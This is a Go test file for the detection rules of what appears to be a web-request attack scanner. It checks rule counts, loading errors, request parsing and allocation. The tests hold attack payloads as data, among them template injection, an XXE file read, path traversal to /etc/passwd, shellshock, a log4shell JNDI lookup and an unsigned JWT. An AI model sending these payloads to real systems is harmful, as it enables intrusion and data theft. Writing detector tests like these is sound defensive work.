package pack

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/miradorhq/mirador/pkg/content"
	"github.com/miradorhq/mirador/pkg/event"
)

// What the rules' files hold; a case that is lost would not be missed otherwise.
const (
	wantRules    = 105
	wantPositive = 656
	wantNegative = 405
)

func TestCases(t *testing.T) {
	p, err := New()
	if err != nil {
		t.Fatal(err)
	}
	s := p.Scanner()
	positive, negative := 0, 0
	for _, r := range p.Rules() {
		for _, c := range r.Cases() {
			field := c.Field
			if field == "" {
				field = "value"
				if c.Kind == Header {
					field = "user-agent"
				}
			}
			found := false
			for _, h := range s.Text(c.Kind, field, c.Text) {
				found = found || h.Rule == r
			}
			if found != c.Positive {
				t.Errorf("%s: %q in %s: matched %v, want %v", r.ID, c.Text, field, found, c.Positive)
			}
			if c.Positive {
				positive++
			} else {
				negative++
			}
		}
	}
	if len(p.rules) != wantRules || positive != wantPositive || negative != wantNegative {
		t.Errorf("%d rules, %d positive and %d negative cases, want %d, %d and %d", len(p.rules), positive, negative, wantRules, wantPositive, wantNegative)
	}
}

// What is wrong with a rule's file is said, all of it.
func TestLoadReportsErrors(t *testing.T) {
	f := func(text string, want ...string) {
		t.Helper()
		_, err := Load(fstest.MapFS{"rules/x.yaml": {Data: []byte(text)}}, "rules")
		for _, w := range want {
			if err == nil || !strings.Contains(err.Error(), w) {
				t.Errorf("%s\nno word of %q: %v", text, w, err)
			}
		}
	}
	f("id: y\nclass: c\nstrength: s\nwhere: [w]\n", "id \"y\"", "class \"c\"", "strength \"s\"", "where: \"w\"", "either patterns")
	f("id: x\ntitle: t\nclass: rce\nstrength: sure\npatterns: ['a.b']\n", "no literal can be derived")
	f("id: x\ntitle: t\nclass: rce\nstrength: sure\npatterns: ['(a']\n", "pattern: error parsing")
	f("id: x\ntitle: t\nclass: rce\nstrength: sure\npatterns: [{re: 'a.b', need: [a]}]\n", "a literal of one byte")
	f("id: x\ntitle: t\nclass: rce\nstrength: sure\npatterns: [{re: 'a.b', need: [AB]}]\n", "not in lower case")
	f("id: x\ntitle: t\nclass: rce\nstrength: sure\ncommands: [{words: ['a b'], then: '('}]\n", "is no word", "then: error parsing")
	f("id: x\nunknown: 1\n", "unknown")
	if _, err := Load(fstest.MapFS{}, "rules"); err == nil {
		t.Error("no rules are no pack")
	}
}

// Every way that a request carries an attack leads to a part that is looked at.
func TestParts(t *testing.T) {
	s := newPack(t).Scanner()
	var doc content.Document
	f := func(rule string, k Kind, view View, depth int, e *event.Event) {
		t.Helper()
		content.ParseRequest(e, &doc, content.DefaultLimits)
		for _, h := range s.Request(e, &doc) {
			if h.Rule.ID == rule && h.Kind == k {
				if h.View != view || h.Depth != depth {
					t.Errorf("%s in %v: view %v, depth %d, want %v, %d", rule, k, h.View, h.Depth, view, depth)
				}
				return
			}
		}
		t.Errorf("%s is not found in kind %d", rule, k)
	}
	body := func(contentType, text string) *event.Event {
		return &event.Event{Path: []byte("/a"), RequestHeaders: []event.Header{{Name: []byte("Content-Type"), Value: []byte(contentType)}}, RequestBody: event.Body{Data: []byte(text)}}
	}
	header := func(name, value string) *event.Event {
		return &event.Event{Path: []byte("/a"), RequestHeaders: []event.Header{{Name: []byte(name), Value: []byte(value)}}}
	}
	f("template-braces", Value, AsIs, 0, body("application/json", `{"a":{"b":["{{7*7}}"]}}`))
	f("template-braces", Value, AsIs, 0, body("application/json", `{"a":"{\"b\":\"{{7*7}}\"}"}`))
	f("template-braces", Value, Decoded, 1, body("application/json", `{"a":"%7b%7b7*7%7d%7d"}`))
	f("template-braces", Value, Decoded, 2, body("application/json", `{"a":"%257b%257b7*7%257d%257d"}`))
	f("unix-command-line", Value, Squeezed, 0, body("application/json", `{"a":"c'a't /opt/secret"}`))
	f("nosql-operator", Name, AsIs, 0, body("application/json", `{"user":{"$ne":1}}`))
	f("xxe", Body, AsIs, 0, body("text/xml", `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>`))
	f("upload-code", Filename, AsIs, 0, body("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\nx\r\n--b--\r\n"))
	f("path-traversal", Path, AsIs, 0, &event.Event{Path: []byte("/a/../../../etc/passwd")})
	f("probe-query", URI, AsIs, 0, &event.Event{Path: []byte("/x"), Query: []byte("cmd=id")})
	f("shellshock", Header, AsIs, 0, header("User-Agent", "() { :;}; id"))
	f("log4shell", Header, AsIs, 0, header("X-Api-Version", "${jndi:ldap://x.test/a}"))
	f("jwt-algorithm", Token, AsIs, 0, &event.Event{Path: []byte("/a"), Identity: event.Identity{TokenHeader: []byte(`{"alg":"none"}`)}})
	f("jwt-algorithm", Value, AsIs, 0, &event.Event{Path: []byte("/a"), Query: []byte("t=eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiIxMjM0NTY3ODkwIn0.")})
	f("graphql-introspection", Value, AsIs, 0, body("application/json", `{"query":"{__schema{types{name}}}"}`))
}

func benign() *event.Event {
	return &event.Event{Method: []byte("POST"), Path: []byte("/v1/accounts/4711/transfers"), Query: []byte("dry_run=false&lang=en"),
		RequestHeaders: []event.Header{{Name: []byte("Host"), Value: []byte("api.bank.example")}, {Name: []byte("User-Agent"), Value: []byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0")},
			{Name: []byte("Accept"), Value: []byte("application/json, text/plain, */*")}, {Name: []byte("Content-Type"), Value: []byte("application/json")}},
		RequestBody: event.Body{Data: []byte(`{"items":[` + strings.Repeat(`{"id":"7c9e6679-7425-40de-944b-e07fc1f90ae7","name":"Anna Schmidt","amount":1250.75,"currency":"EUR","note":"Rent for March, flat 12","active":true},`, 7) + `{}]}`)}}
}

// An ordinary request costs no allocation.
func TestOrdinaryRequestAllocatesNothing(t *testing.T) {
	s := newPack(t).Scanner()
	e := benign()
	var doc content.Document
	content.ParseRequest(e, &doc, content.DefaultLimits)
	if hits := s.Request(e, &doc); len(hits) > 0 {
		t.Fatalf("%+v", hits)
	}
	if n := testing.AllocsPerRun(50, func() { s.Request(e, &doc) }); n > 0 {
		t.Errorf("%v allocations", n)
	}
}

func BenchmarkScanJSON1KB(b *testing.B) {
	s := newPack(b).Scanner()
	e := benign()
	var doc content.Document
	content.ParseRequest(e, &doc, content.DefaultLimits)
	b.ReportAllocs()
	b.SetBytes(int64(len(e.RequestBody.Data)))
	for b.Loop() {
		s.Request(e, &doc)
	}
}
